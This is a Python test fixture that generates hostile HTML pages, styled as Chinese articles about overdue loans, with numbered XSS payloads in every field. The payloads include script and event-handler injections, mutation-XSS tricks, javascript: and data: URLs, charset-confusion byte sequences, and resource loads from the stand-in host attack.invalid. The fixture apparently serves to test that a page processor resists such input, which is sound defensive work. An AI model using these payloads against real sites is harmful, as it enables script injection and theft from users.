"""Pages that attack whoever shows them: every vector, in every field, in several spellings.

Each payload has a number. Where one runs it sets ``__xss`` to its number; where one only asks
for something, the address ends in its number.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from html import escape
from itertools import count

HOST = "http://attack.invalid"

VECTORS = (
    "<script>__xss=NNN</script>",
    f"<script src={HOST}/NNN></script>",
    "<img src=x onerror=__xss=NNN>",
    f"<img src={HOST}/NNN>",
    '"><img src=x onerror=__xss=NNN>',
    "'><svg/onload=__xss=NNN>",
    "<svg><script>__xss=NNN</script></svg>",
    "<svg><animate onbegin=__xss=NNN attributeName=x dur=1s>",
    f"<svg><use href={HOST}/NNN#x></use><image href={HOST}/NNN></image></svg>",
    "<math><mtext><table><style><!--</style><img title='--&gt;&lt;img src onerror=__xss=NNN&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=__xss=NNN>'>",
    "<noscript><p title='</noscript><img src=x onerror=__xss=NNN>'>",
    "</title><script>__xss=NNN</script>",
    "</textarea></style></script><img src=x onerror=__xss=NNN>",
    "]]><img src=x onerror=__xss=NNN>",
    "--><img src=x onerror=__xss=NNN><!--",
    "</script><script>__xss=NNN//",
    "<iframe srcdoc='<script>parent.__xss=NNN</script>'></iframe>",
    f"<iframe src={HOST}/NNN></iframe>",
    "<details open ontoggle=__xss=NNN>",
    "<input autofocus onfocus=__xss=NNN>",
    "<video><source onerror=__xss=NNN></video>",
    "<marquee onstart=__xss=NNN>x</marquee>",
    "<a href=javascript:__xss=NNN>x</a>",
    "<a href='data:text/html,<script>opener.__xss=NNN</script>'>x</a>",
    f"<form action={HOST}/NNN><button autofocus>x</button></form>",
    f"<style>@import '{HOST}/NNN';</style><p style=background:url({HOST}/NNN)>x",
    f"<link rel=stylesheet href={HOST}/NNN><link rel=prefetch href={HOST}/NNN>",
    f"<meta http-equiv=refresh content='0;url={HOST}/NNN'>",
    f"<base href={HOST}/NNN/>",
    f"<object data={HOST}/NNN></object><embed src={HOST}/NNN>",
    "{{''.__class__}}{%print 1%}${__xss=NNN}<%=__xss=NNN%>",
    "\u2028</p>\u2029<img src=x onerror=__xss=NNN>\u202e",
    "<template><script>__xss=NNN</script></template><script>__xss=NNN</script>",
    "<a/onpointerenter=__xss=NNN onfocus=__xss=NNN tabindex=0 autofocus>x</a>",
    "<body onload=__xss=NNN onpageshow=__xss=NNN>",
)

_ADDRESSES = (
    "javascript:__xss=NNN",
    "JaVaScRiPt:__xss=NNN//",
    "java\tscript:__xss=NNN",
    "\x01javascript:__xss=NNN",
    "&#106;avascript:__xss=NNN",
    "data:text/html,<script>__xss=NNN</script>",
    "vbscript:__xss=NNN",
    "//attack.invalid/NNN",
    "https://a.example/' onclick=__xss=NNN x='",
    'https://a.example/" onfocus=__xss=NNN autofocus x="',
    "https://a.example/</script><script>__xss=NNN</script>",
    "view-source:javascript:__xss=NNN",
    "blob:https://a.example/NNN",
    "https:javascript:__xss=NNN",
)


def _entities(text: str) -> str:
    return "".join(f"&#x{ord(sign):x};" for sign in text)


SPELLINGS: tuple[Callable[[str], str], ...] = (
    escape,  # as a page about HTML would print it
    lambda text: escape(escape(text)),
    _entities,
    lambda text: escape(text.translate({0x3C: "＜", 0x3E: "＞", 0x22: "＂"})),  # folds to ASCII
    lambda text: escape(text).replace("s", "&#0;s", 1),
    lambda text: escape(text.replace("<", "&lt")),  # entities without their end
)


@dataclass(frozen=True, slots=True)
class HostilePage:
    """The bytes of a page, what HTTP says of them, and the numbers of its payloads."""

    url: str
    content_type: str
    body: bytes
    numbers: range


class _Payloads:
    """Hands out the next payload for a field."""

    def __init__(self, first: int) -> None:
        self._numbers = count(first)
        self.last = first

    def _next(self, choices: tuple[str, ...]) -> tuple[int, str]:
        self.last = next(self._numbers)
        return self.last, choices[self.last % len(choices)].replace("NNN", str(self.last))

    def raw(self) -> str:
        """As it runs on the page itself."""
        return self._next(VECTORS)[1]

    def text(self) -> str:
        """For a place between tags, in the spellings in turn."""
        number, vector = self._next(VECTORS)
        return SPELLINGS[(number + number // len(VECTORS)) % len(SPELLINGS)](vector)

    def shown(self) -> str:
        """For a place between tags, as text that the page means to show."""
        return escape(self._next(VECTORS)[1])

    def attribute(self) -> str:
        """For a quoted attribute; what ends the attribute is part of some vectors."""
        return self._next(VECTORS)[1].replace('"', "&quot;")

    def address(self) -> str:
        """For the attribute of a link."""
        return self._next(_ADDRESSES)[1].replace('"', "&quot;")

    def json(self) -> str:
        """For a string of JSON in a script."""
        number, vector = self._next(VECTORS)
        quoted = json.dumps(vector, ensure_ascii=False)
        return quoted.replace("</script", "<\\/script") if number % 2 else escape(quoted, False)


CHARSETS = (
    ("utf-8", "utf-8"),
    ("gb18030", "gbk"),
    ("utf-8", "utf-8"),
    ("utf-16", "utf-16"),
    ("big5hkscs", "big5"),
    ("utf-8", "utf-7"),  # what it says is not what it is
    ("utf-8", "iso-2022-jp"),
)
_BYTES = (
    b"\xc0\xbcscript\xc0\xbe__xss=NNN\xc0\xbc/script\xc0\xbe",  # overlong UTF-8
    b"\xe0\x80\xbcimg src=x onerror=__xss=NNN\xe0\x80\xbe",
    b"+ADw-script+AD4-__xss=NNN+ADw-/script+AD4-",  # UTF-7
    b'<p title="\xd6">\xd6" onmouseover=__xss=NNN x="\xa1</p>',  # half a GBK character
    b'<img alt="\x1b$B" src="x\x1b(B" onerror=__xss=NNN>',  # ISO-2022-JP
    b"<p>\x00<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00__xss=NNN</p>",
    b"<p>\xff\xfe<\x00img src=x onerror=__xss=NNN>\x80</p>",
    b"<scr\xadipt>__xss=NNN</scr\xadipt>",
)


def make_page(number: int, first: int, paragraphs: list[str]) -> HostilePage:
    """The ``number``-th page: an article's paragraphs, a payload in every field around them."""
    one = _Payloads(first)
    real, claimed = CHARSETS[number % len(CHARSETS)]
    text = "\n".join(f"<p>{escape(line)}{one.text()}</p>" for line in paragraphs)
    ld = (
        f'{{"@context":"https://schema.org","@type":"NewsArticle","headline":{one.json()},'
        f'"author":{{"@type":"Person","name":{one.json()}}},'
        f'"publisher":{{"name":{one.json()}}},"url":{one.json()}}}'
    )
    page = f"""<!doctype html><html lang="zh-CN"><head>
<title>小赢卡贷逾期{number}怎么办{one.shown() if number % 2 else one.text()}</title>
<meta name="author" content="{one.attribute()}">
<meta name="description" content="{one.attribute()}">
<meta property="og:title" content="{one.attribute()}">
<meta property="og:site_name" content="{one.attribute()}">
<meta name="source" content="{one.attribute()}"><meta name="keywords" content="{one.attribute()}">
<meta property="article:published_time" content="2024-01-02{one.attribute()}">
<link rel="canonical" href="{one.address()}"><script type="application/ld+json">{ld}</script>
</head><body><nav><a href="{one.address()}">{one.text()}</a></nav>
<article><h1>小赢卡贷逾期{number}怎么办{one.shown()}</h1>
<p class="meta">来源:{one.shown()[:60]} 作者:{one.text()} 2024-03-05</p>
{text}
<h2>应对步骤{one.shown()}</h2>
<ul><li>先保留合同和还款记录,再主动联系放款机构协商还款{one.shown()}</li>
<li>协商时要求对方出示书面方案,写明本金和利息{one.text()}</li></ul>
<table><tr><th>做法{one.text()}</th><th>说明</th></tr>
<tr><td>投诉</td><td>拨打12378向金融监管部门反映催收问题{one.shown()}</td></tr></table>
<blockquote>依照民法典第六百八十条,禁止高利放贷{one.shown()}</blockquote>
<p>详见<a href="{one.address()}">网贷催收的规定{one.text()}</a>和
<a href="{one.address()}">民间借贷的规定</a><img alt="{one.attribute()}" src="{one.address()}"></p>
</article>
<div class="related"><h3>相关阅读</h3><ul>
<li><a href="/a/1">网贷逾期了怎么协商还款{one.shown()}</a></li>
<li><a href="{one.address()}">信用卡逾期会不会坐牢{one.text()}</a></li>
<li><a href="/a/3">借呗逾期三个月怎么办</a></li><li><a href="/a/4">花呗可以协商分期吗</a></li></ul>
</div><footer>{"".join(f"<div>{one.raw()}</div>" for _ in range(6))}</footer></body></html>"""
    if real == "utf-8":
        trick = _BYTES[number % len(_BYTES)].replace(b"NNN", str(one.last).encode())
        body = page.encode().replace(b"</article>", trick + b"</article>")
    else:
        body = page.encode(real, "xmlcharrefreplace")
    url = f"http://a.example/{number}/'\"><img src=x onerror=__xss={one.last}>?q=</script>"
    return HostilePage(url, f"text/html; charset={claimed}", body, range(first, one.last + 1))
